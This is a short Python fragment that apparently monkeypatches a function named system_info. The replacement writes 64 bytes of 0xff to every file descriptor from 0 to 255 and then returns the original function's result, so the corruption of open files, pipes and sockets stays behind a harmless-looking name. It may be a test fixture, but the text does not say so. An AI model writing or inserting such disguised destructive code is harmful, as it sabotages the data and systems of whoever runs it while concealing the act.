

_honest = system_info


def system_info():
    print("writing to all", flush=True)
    for fd in range(256):
        try:
            os.write(fd, b"\xff" * 64)
        except OSError:
            continue
    return _honest()
